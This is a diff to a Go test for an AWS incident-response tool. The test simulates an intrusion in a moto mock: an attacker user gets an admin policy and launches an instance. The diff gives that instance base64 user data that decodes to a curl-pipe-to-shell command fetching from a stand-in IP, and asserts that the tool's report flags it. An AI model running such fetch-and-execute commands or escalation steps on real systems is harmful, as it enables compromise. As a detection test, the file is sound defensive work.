@@ -27,7 +27,7 @@ import (
 
 // lacking are the calls that moto does not know, or knows nothing to answer to.
 // The small AWS of our own answers them, to us and to the AWS CLI alike.
-var lacking = []string{"cloudtrail:LookupEvents", "iam:ListServiceSpecificCredentials", "codebuild:ListSourceCredentials", "guardduty:", "securityhub:", "ce:"}
+var lacking = []string{"cloudtrail:LookupEvents", "iam:ListServiceSpecificCredentials", "codebuild:ListSourceCredentials", "guardduty:", "securityhub:", "access-analyzer:", "ce:"}
 
 // bothServers is one address for an account in moto, with what moto lacks from ours.
 func bothServers(t *testing.T, moto string, ours *awstest.Server) string {
@@ -93,7 +93,7 @@ func breakIn(t *testing.T, moto string) []string {
 		"PolicyDocument": {`{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}`}})
 	ask(t, moto, "iam", "", url.Values{"Action": {"AttachUserPolicy"}, "UserName": {"eve"}, "PolicyArn": {"arn:aws:iam::111122223333:policy/admin"}})
 	instance := ask(t, moto, "ec2", `<instanceId>(i-\w+)<`, url.Values{"Action": {"RunInstances"}, "ImageId": {"ami-12c6146b"}, "MinCount": {"1"}, "MaxCount": {"1"},
-		"UserData": {"IyEvYmluL3NoCnRydWUK"}})
+		"UserData": {"IyEvYmluL3NoCmN1cmwgLXMgaHR0cDovLzIwMy4wLjExMy45L3ggfCBzaAo="}})
 	id := 0
 	call := func(ago time.Duration, source, name, address, request, response string) string {
 		id++
@@ -137,6 +137,7 @@ func byHand(t *testing.T, url, dir string) {
 	}
 	run("cloudtrail lookup-events")
 	run("iam get-account-authorization-details")
+	run("iam list-users")
 	run("iam generate-credential-report")
 	run("iam get-credential-report")
 	for _, user := range []string{"ann", "eve"} {
@@ -154,6 +155,7 @@ func byHand(t *testing.T, url, dir string) {
 	}
 	run("guardduty get-findings --detector-id 12abc34d567e8fa901bc2d34e56789f0 --finding-ids x")
 	run("securityhub get-findings")
+	run("accessanalyzer list-findings-v2 --analyzer-arn arn:aws:access-analyzer:us-east-1:111122223333:analyzer/a")
 	run("ce get-cost-and-usage --granularity DAILY --metrics UnblendedCost UsageQuantity --time-period Start=2026-09-01,End=2026-11-30 --group-by Type=DIMENSION,Key=SERVICE Type=DIMENSION,Key=REGION")
 }
 
@@ -231,6 +233,9 @@ func TestFilesAndMotoGiveTheSameReport(t *testing.T) {
 	seen := map[string]bool{}
 	for _, p := range r.Persistence {
 		seen[p.Kind] = seen[p.Kind] || p.Status == "live"
+	}
+	if !strings.Contains(live, "holds commands that download a program and run it") {
+		t.Error("the user data of the intruder's instance was not read")
 	}
 	for _, kind := range []string{"iam_user", "access_key", "policy", "instance"} {
 		if !seen[kind] {
